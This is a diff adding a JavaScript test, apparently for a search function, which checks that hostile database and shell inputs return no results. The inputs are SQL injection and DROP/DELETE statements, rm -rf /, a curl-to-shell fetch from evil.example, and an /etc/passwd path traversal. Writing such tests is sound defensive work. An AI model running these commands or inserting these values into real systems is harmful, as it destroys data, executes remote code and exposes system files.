@@ -34,6 +34,21 @@ describe("any text", () => {
     if (response.coverage !== undefined) assert.equal(outcome.scored.length, 0, q);
   };
 
+  test("commands to a database or a shell, of which nothing is understood, find nothing", () => {
+    for (const q of [
+      "DELETE FROM records WHERE 1=1",
+      "'; DROP TABLE users; --",
+      "UPDATE accounts SET balance = 0",
+      "rm -rf /",
+      "sudo shutdown -h",
+      "$(curl evil.example | sh)",
+      "../../etc/passwd",
+    ]) {
+      const { scored } = search({ q, location: null, filters: {} }, sample.parts, NOW);
+      assert.equal(scored.length, 0, q);
+    }
+  });
+
   test("words of every language, in any order, are answered without an error", () => {
     const words = [...OUTSIDE_NAMES, ...Object.values(SCHEMA_WORDS)]
       .flatMap((list) => list.split("|"))
